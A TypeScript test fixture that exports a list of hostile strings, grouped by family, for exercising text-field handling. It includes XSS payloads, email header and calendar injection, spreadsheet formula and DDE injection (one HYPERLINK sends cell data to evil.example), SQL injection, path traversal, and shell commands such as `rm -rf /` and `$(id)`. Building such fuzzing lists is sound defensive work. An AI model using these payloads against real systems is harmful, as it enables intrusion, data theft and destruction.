// Text that tries to break out of wherever it is put: pages, emails, calendars, spreadsheets, queries, logs. Shared by every test of a text field.

export type Hostile = { readonly family: string; readonly text: string }

const words = (text: string) => text.split(' ')
const lines = (text: string) => text.trim().split('\n')
const each = (heads: readonly string[], tails: readonly string[]) => heads.flatMap((head) => tails.map((tail) => head + tail))
const code = String.fromCodePoint

const families: Record<string, readonly string[]> = {
  html: lines(`
<script>alert(1)</script>
<SCRIPT SRC=//evil.example/x.js></SCRIPT>
</script><script>alert(1)</script>
</title><script>alert(1)</script>
</textarea><script>alert(1)</script>
<img src=x onerror=alert(1)>
<svg/onload=alert(1)>
<svg><animate onbegin=alert(1) attributeName=x dur=1s>
<math><mtext></p><style><img src onerror=alert(1)></style>
<iframe srcdoc="<script>alert(1)</script>">
<body onload=alert(1)>
<details open ontoggle=alert(1)>
<form action=//evil.example><input name=password>
<base href="https://evil.example/">
<meta http-equiv="refresh" content="0;url=//evil.example">
<link rel=stylesheet href=//evil.example/x.css>
<style>*{display:none}</style>
<!--
--><script>alert(1)</script>
<![CDATA[<script>alert(1)</script>]]>
<a href="javascript:alert(1)">x</a>
<template><script>alert(1)</script></template>
<noscript><p title="</noscript><img src=x onerror=alert(1)>">
&lt;script&gt;alert(1)&lt;/script&gt;
&#60;script&#62;alert(1)&#60;/script&#62;
&amp;lt;b&amp;gt;
<b>bold
</p></div></main></body></html>
<%= 7*7 %>
<?php echo 1 ?>
<
>
&
&nbsp
a < b && b > c`),
  attribute: lines(`
" onmouseover="alert(1)
' onmouseover='alert(1)
" autofocus onfocus=alert(1) x="
"><script>alert(1)</script>
'><svg onload=alert(1)>
x" style="position:fixed;inset:0;background:red
x onclick=alert(1)
"/><input type=hidden name=role value=coordinator><input value="
&quot; onmouseover=&quot;alert(1)
" formaction="//evil.example
"
'
''
${'`'}onclick=alert(1)${'`'}`),
  url: lines(String.raw`
javascript:alert(1)
JaVaScRiPt:alert(1)
javascript://example.org/%0aalert(1)
data:text/html,<script>alert(1)</script>
data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
vbscript:msgbox(1)
file:///etc/passwd
//evil.example/path
/\evil.example
https:evil.example
https://example.org@evil.example/
https://example.org%2f@evil.example/
https://evil.example/?next=https://example.org
http://[::1]:8080/
http://169.254.169.254/latest/meta-data/
https://xn--80ak6aa92e.com/
mailto:a@example.org?bcc=b@example.org
tel:+44*31#`).concat('java\tscript:alert(1)', 'java\nscript:alert(1)', '\u0001javascript:alert(1)', ' javascript:alert(1)'),
  header: each(
    ['', 'Ann', 'Ann\r\n', '=?utf-8?Q?'],
    [
      '\r\nBcc: everyone@evil.example',
      '\nBcc: everyone@evil.example',
      '\rBcc: everyone@evil.example',
      '\r\n\r\n<p>another body</p>',
      '\r\n Folded: yes',
      '%0d%0aBcc: everyone@evil.example',
    ],
  ).concat(
    '=?utf-8?B?QmNjOiBh?=',
    '"Ann" <ann@evil.example>',
    'Ann <a@example.org>, Bob <b@example.org>',
    'Ann\u0085Bcc: x@evil.example',
    'Ann\u2028Bcc: x@evil.example',
  ),
  calendar: each(
    ['x\r\n', 'x\n', 'x\\n', 'x\r', 'x\r\n '],
    [
      'BEGIN:VALARM\r\nACTION:EMAIL\r\nEND:VALARM',
      'END:VEVENT\r\nBEGIN:VEVENT\r\nUID:evil\r\nEND:VEVENT',
      'ATTENDEE:mailto:evil@example.org',
      'ATTACH:https://evil.example/x.exe',
      'END:VCALENDAR',
    ],
  ).concat(
    '\\',
    '\\\\',
    '\\n',
    '\\N',
    '\\,',
    '\\;',
    ';',
    ',',
    ':',
    '";ALTREP="cid:x',
    "^n^'",
    'a;b,c:d\\e',
    'ends with \\',
    'x\r\n\tBEGIN:VALARM',
  ),
  formula: each(
    ['=', '+', '-', '@', '\t=', '\r=', '\n=', '\0=', ' =', '\u00a0=', '\u200b=', '\ufeff=', '\uff1d', '\uff0b', '\uff0d', '\uff20', 'x;='],
    ['1+1', "cmd|' /C calc'!A0"],
  ).concat(
    '=HYPERLINK("https://evil.example?"&A1,"see")',
    '=1+1;',
    '",=1+1,"',
    '"\r\n=1+1',
    '%0A=1+1',
    '-2+3+cmd|x',
    '@SUM(A1:A9)',
    "'=1+1",
  ),
  template: lines(`
{name}
{0}
{n, plural, one {#} other {#}}
{n, select,
{{constructor.constructor("alert(1)")()}}
${'$'}{alert(1)}
#{7*7}
'{' '}' '
''{
{
}
{}
{<b>x</b>}
%s %d %n
%(name)s
{{7*7}}
[[x]]
$1 $&`).concat('$`', "$'"),
  sql: lines(String.raw`
'; DROP TABLE people; --
' OR '1'='1
" OR ""="
1; ATTACH DATABASE 'x' AS y
') UNION SELECT token FROM links --
x' || (SELECT 1) || '
%
_
a%b_c
\' OR 1=1 --
/* x */
?
?1
:name
$1`),
  json: lines(String.raw`
","role":"coordinator
{"$ne":null}
__proto__
constructor
toString
[object Object]
null
undefined
NaN
true
-0
1e999
0x41
9007199254740993
\u0000`),
  path: lines(String.raw`
../../../etc/passwd
..\..\windows\win.ini
%2e%2e%2f
/etc/passwd
.
..
~root
CON
file.txt:stream
a/b?c=d#e
x; rm -rf /
${'`'}id${'`'}
$(id)
| cat
--help`).concat('a\0.png'),
  direction: [
    ...words('a\u202eexe.gpj \u202dabc \u202a\u202b\u202c \u2066abc\u2069 \u2067\u2067\u2067 \u200fabc \u200e\u200f\u061c'),
    ...words('ad\u200bmin ad\u200dmin ad\u200cmin \ufeffadmin ad\u00admin ad\u2060min \u200b \u2800 \u3164'),
    ...words('\u0627\u0644\u0639\u0631\u0628\u064a\u0629 \u{e0001}\u{e0041}'),
    '\u05e2\u05d1\u05e8\u05d9\u05ea abc 123',
  ],
  control: [
    ...words('\0 a\0b \u0001\u0002\u0003 \u0008\u0008\u0008 \u001b[31mred\u001b[0m \u001b]0;title\u0007 \u007f \u009b31m'),
    ...words('\u0085 \u2028 \u2029 \t \v\f \r\n \ufffe \uffff \ufff9x\ufffa\ufffb'),
    ' ',
  ],
  surrogate: ['\ud800', '\udfff', 'a\ud83d', '\ude00b', '\ud83d\ud83d\ude00', '\udc00\ud800', '\ud800<script>', '\ud83d\r\n\ude00'],
  emoji: [
    ...words('\u{1f600} \u{1f468}\u200d\u{1f469}\u200d\u{1f467}\u200d\u{1f466}'),
    ...words('\u{1f3f4}\u{e0067}\u{e0062}\u{e0077}\u{e006c}\u{e0073}\u{e007f} \u{1f1ee}\u{1f1e9} \u{1f44b}\u{1f3fd} e\u0301'),
    ...words('\u00e9 \u1e9b\u0323 \ufb01 \u2126 \u0130\u0131 \u00df \uff21\uff42\uff43 \u1f88 \ufdfa \u212a \u{20bb7}'),
    ...words('\u0e01\u0e33 \u{1d54f} \u0915\u094d\u0937\u093f'),
  ],
  zalgo: [
    'Z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324\u031e',
    `a${code(...Array.from({ length: 100 }, (_, i) => 0x300 + i))}`,
    `${'\u0489'.repeat(60)}`,
    '\u0e47'.repeat(60),
    `x${'\u20dd'.repeat(40)}`,
    '\u0301starts with a mark',
  ],
  long: [
    'a'.repeat(74),
    'a'.repeat(75),
    'a'.repeat(76),
    'a'.repeat(10_000),
    'word '.repeat(2_000),
    '\u00e9'.repeat(75),
    '\u{1f600}'.repeat(1_000),
    '<'.repeat(5_000),
    '"'.repeat(5_000),
    '\\'.repeat(5_000),
    '\r\n'.repeat(2_000),
    ' '.repeat(5_000),
    '('.repeat(5_000),
    `a@${'b.'.repeat(3_000)}`,
    '\u200d'.repeat(3_000),
    `${'a'.repeat(73)}\u{1f600}`,
  ],
}

/** At least 220 texts, each once. */
export const hostile: readonly Hostile[] = Object.entries(families).flatMap(([family, texts]) => texts.map((text) => ({ family, text })))
